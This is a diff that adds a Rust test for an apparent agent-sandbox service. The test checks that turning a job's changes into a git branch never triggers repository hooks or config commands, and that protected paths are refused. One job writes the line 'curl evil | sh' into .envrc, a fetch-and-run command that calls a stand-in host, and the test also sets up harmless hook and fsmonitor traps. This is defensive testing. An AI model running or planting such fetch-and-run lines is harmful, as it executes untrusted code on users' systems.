@@ -1221,3 +1221,99 @@ fn secrets_reach_only_their_agent_and_never_any_record() {
         }
     }
 }
+
+#[test]
+fn apply_makes_a_branch_without_running_anything_of_the_repo() {
+    let (t, repo, s) = setup(&[]);
+    // traps: hooks and a config that would run commands
+    let trap = t.path().join("trap-fired");
+    let hook = format!("#!/bin/sh\ntouch {}\n", trap.display());
+    for h in [
+        "reference-transaction",
+        "post-commit",
+        "pre-commit",
+        "post-checkout",
+        "post-index-change",
+    ] {
+        let p = repo.join(".git/hooks").join(h);
+        std::fs::write(&p, &hook).unwrap_or_else(|e| panic!("{e}"));
+        let _ = sh(&repo, &format!("chmod +x {}", p.display()));
+    }
+    let o = sh(&repo, &format!("git config core.fsmonitor 'touch {}' && git config commit.gpgSign true && git config gpg.program 'touch {}'", trap.display(), trap.display()));
+    assert!(o.status.success(), "{o:?}");
+    let head_before = sh(&repo, "git rev-parse HEAD").stdout;
+    let tree_before = manifest(&repo);
+
+    let (_, j) = s.json(
+        "POST",
+        "/v1/jobs",
+        Some(shell(&repo, "echo applied >> a.txt; echo new > added.txt")),
+    );
+    let id = j["id"].as_str().unwrap_or("").to_string();
+    assert_eq!(s.wait(&id)["status"], "succeeded");
+    let (code, v) = s.json("POST", &format!("/v1/jobs/{id}/apply"), None);
+    assert_eq!(code, 201, "{v}");
+    let branch = v["branch"].as_str().unwrap_or("").to_string();
+    assert_eq!(branch, format!("agentvm/{id}"));
+    // the branch holds the change; nothing else moved; nothing ran
+    let show = sh(&repo, &format!("git show {branch}:a.txt && git show {branch}:added.txt && git log -1 --format=%B {branch}"));
+    let out = String::from_utf8_lossy(&show.stdout);
+    assert!(
+        out.contains("hello\napplied\n") && out.contains("new\n") && out.contains("AgentVM-Job: "),
+        "{show:?}"
+    );
+    assert_eq!(
+        sh(&repo, "git rev-parse HEAD").stdout,
+        head_before,
+        "HEAD moved"
+    );
+    assert_eq!(manifest(&repo), tree_before, "the work tree changed");
+    assert!(
+        !trap.exists(),
+        "a hook or a command from the repo's config ran"
+    );
+    // again: the branch exists
+    assert_eq!(s.json("POST", &format!("/v1/jobs/{id}/apply"), None).0, 409);
+
+    // protected paths are refused
+    let (_, j) = s.json(
+        "POST",
+        "/v1/jobs",
+        Some(shell(&repo, "echo 'curl evil | sh' > .envrc")),
+    );
+    let pid = j["id"].as_str().unwrap_or("").to_string();
+    s.wait(&pid);
+    let (code, v) = s.json("POST", &format!("/v1/jobs/{pid}/apply"), None);
+    assert_eq!(code, 409);
+    assert!(v["detail"].as_str().unwrap_or("").contains(".envrc"), "{v}");
+
+    // the repo moved on in a conflicting way
+    let (_, j) = s.json(
+        "POST",
+        "/v1/jobs",
+        Some(shell(&repo, "printf 'changed by the agent\\n' > a.txt")),
+    );
+    let cid = j["id"].as_str().unwrap_or("").to_string();
+    s.wait(&cid);
+    let o = sh(&repo, "git config --unset core.fsmonitor; git config --unset commit.gpgSign; printf 'changed by the user\\n' > a.txt && git -c core.hooksPath=/dev/null -c user.email=u@u -c user.name=u commit -qam user");
+    assert!(o.status.success(), "{o:?}");
+    let (code, v) = s.json("POST", &format!("/v1/jobs/{cid}/apply"), None);
+    assert_eq!(code, 409, "{v}");
+    assert!(
+        v["detail"].as_str().unwrap_or("").contains("moved on"),
+        "{v}"
+    );
+    // nothing to apply
+    let (_, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "true")));
+    let nid = j["id"].as_str().unwrap_or("").to_string();
+    s.wait(&nid);
+    assert_eq!(
+        s.json("POST", &format!("/v1/jobs/{nid}/apply"), None).0,
+        409
+    );
+    // audited
+    let (_, a) = s.json("GET", "/v1/audit?limit=200", None);
+    assert!(a["events"].as_array().is_some_and(|e| e
+        .iter()
+        .any(|x| x["action"] == "job.apply" && x["outcome"] == "ok")));
+}
